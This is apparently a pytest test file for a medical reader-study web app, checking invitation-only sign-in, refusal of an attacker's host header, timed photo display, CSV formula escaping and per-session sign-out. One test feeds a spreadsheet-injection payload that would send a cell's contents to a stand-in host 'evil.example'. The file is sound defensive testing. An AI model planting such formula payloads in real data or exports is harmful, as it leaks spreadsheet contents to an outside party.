"""Reader-study hardening (issue #11, items 5–8): invitations, network exposure, the display rule on the server,
CSV formula escaping; and sign-out ending exactly one session."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from gsscreen.web import readers_app as ra
from gsscreen.web.readers_app import ReadersConfig, create_app, create_invitation, csv_safe, write_example_cohort


@pytest.fixture(scope="module")
def cohort_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_example_cohort(tmp_path_factory.mktemp("readers-hard"), n=4)


def _client(cohort: Path, db: Path, **kw) -> TestClient:  # type: ignore[no-untyped-def]
    return TestClient(create_app(ReadersConfig(cohort=cohort, db=db, **kw)))


def test_nobody_becomes_another_reader_without_their_invitation(cohort_csv: Path, tmp_path: Path) -> None:
    db = tmp_path / "r.sqlite"
    bob_code = create_invitation(db, "Bob", "junior")
    alice_code = create_invitation(db, "Alice", "junior")
    c = _client(cohort_csv, db)
    for body in ({"name": "bob", "role": "junior"},  # the audit's attack: just type his name
                 {"name": "bob", "role": "junior", "invite": "guess"},
                 {"name": "bob", "role": "junior", "invite": alice_code},  # Alice's code is not Bob's
                 {"name": "bob", "role": "senior", "invite": bob_code}):  # nor is it for another role
        r = c.post("/api/session", json=body)
        assert r.status_code == 403 and "invitation" in r.json()["detail"], body
    assert c.post("/api/session", json={"name": " BOB ", "role": "junior", "invite": bob_code}).status_code == 200
    assert create_invitation(db, "Bob", "junior") != bob_code  # re-inviting replaces the code
    assert c.post("/api/session", json={"name": "Bob", "role": "junior", "invite": bob_code}).status_code == 403
    raw = db.read_bytes()
    assert bob_code.encode() not in raw and alice_code.encode() not in raw  # only hashes are stored


def test_invite_command_prints_a_working_code(cohort_csv: Path, tmp_path: Path) -> None:
    from gsscreen.cli import app

    db = tmp_path / "r.sqlite"
    r = CliRunner().invoke(app, ["readers", "invite", "Dr. Chen", "--role", "senior", "--db", str(db)])
    assert r.exit_code == 0, r.output
    code = r.output.split("): ", 1)[1].split()[0]
    assert f"#invite={code}" in r.output
    c = _client(cohort_csv, db)
    assert c.post("/api/session", json={"name": "Dr. Chen", "role": "senior", "invite": code}).status_code == 200
    assert db.stat().st_mode & 0o777 == 0o600  # answers of named physicians: owner-only


def test_off_loopback_needs_invitations(cohort_csv: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import uvicorn

    started: list[str] = []
    monkeypatch.setattr(uvicorn, "run", lambda *a, **k: started.append(k.get("host")))
    cfg = ReadersConfig(cohort=cohort_csv, db=tmp_path / "r.sqlite", host="0.0.0.0")
    with pytest.raises(ValueError, match="no invitations"):
        ra.serve(cfg)
    assert started == []
    create_invitation(cfg.db, "Ann", "junior")
    ra.serve(cfg)
    assert started == ["0.0.0.0"]
    # a rebinding attacker's host name is refused by the app itself
    c = _client(cohort_csv, tmp_path / "r.sqlite")
    assert c.get("/api/config", headers={"host": "evil.example"}).status_code == 421


def test_display_rule_is_enforced_by_the_server(cohort_csv: Path, tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    clock = [1_000_000.0]
    monkeypatch.setattr(ra.time, "time", lambda: clock[0])
    db = tmp_path / "r.sqlite"
    c = _client(cohort_csv, db, seconds=10, answer_seconds=10)
    code = create_invitation(db, "Eve", "junior")
    assert c.post("/api/session", json={"name": "Eve", "role": "junior", "invite": code}).status_code == 200
    first = c.get("/api/next").json()["photo_id"]
    assert c.get(f"/api/photos/{first}").status_code == 200
    clock[0] += 5
    assert c.get(f"/api/photos/{first}").status_code == 200  # a reload within the display time: same clock
    clock[0] += 8  # 13 s after the first display: the display time is over
    r = c.get(f"/api/photos/{first}")
    assert r.status_code == 409 and "display time" in r.json()["detail"]
    clock[0] += 19  # answered 32 s after the first display: 12 s later than display + answer time
    assert c.post("/api/answers", json={"photo_id": first, "answer": "GS", "confidence": 3}).status_code == 201
    second = c.get("/api/next").json()["photo_id"]
    assert c.get(f"/api/photos/{second}").status_code == 200
    clock[0] += 12  # within 10 + 10 s
    assert c.post("/api/answers", json={"photo_id": second, "answer": "control", "confidence": 4}).status_code == 201
    rows = ra.read_answers(db)
    assert [(r["seconds"], r["late"], r["views"]) for r in rows] == [(32.0, 1, 2), (12.0, 0, 1)]
    from gsscreen.cli import app

    out = tmp_path / "answers.csv"
    r = CliRunner().invoke(app, ["readers", "export", "--db", str(db), "-o", str(out)])
    assert r.exit_code == 0 and "(1 late" in r.output
    assert [row["late"] for row in csv.DictReader(out.open())] == ["1", "0"]


def test_csv_export_escapes_formulas(cohort_csv: Path, tmp_path: Path) -> None:
    db = tmp_path / "r.sqlite"
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    c = _client(cohort_csv, db, confidence=False)
    code = create_invitation(db, name, "senior")
    assert c.post("/api/session", json={"name": name, "role": "senior", "invite": code}).status_code == 200
    pid = c.get("/api/next").json()["photo_id"]
    assert c.get(f"/api/photos/{pid}").status_code == 200
    assert c.post("/api/answers", json={"photo_id": pid, "answer": "GS"}).status_code == 201
    out = tmp_path / "a.csv"
    ra.export_answers(db, out)
    row = next(csv.DictReader(out.open()))
    assert row["reader"] == "'" + name
    assert [csv_safe(v) for v in ("+1", "-2", "@x", "\tx", "plain", 3, -1.5)] == \
        ["'+1", "'-2", "'@x", "'\tx", "plain", 3, -1.5]


def test_sign_out_ends_exactly_that_session(cohort_csv: Path, tmp_path: Path) -> None:
    db = tmp_path / "r.sqlite"
    code = create_invitation(db, "Kim", "senior")
    a, b = _client(cohort_csv, db), _client(cohort_csv, db)
    for c in (a, b):
        assert c.post("/api/session", json={"name": "Kim", "role": "senior", "invite": code}).status_code == 200
    assert a.delete("/api/session").status_code == 200
    assert a.get("/api/next").status_code == 401
    assert b.get("/api/next").status_code == 200
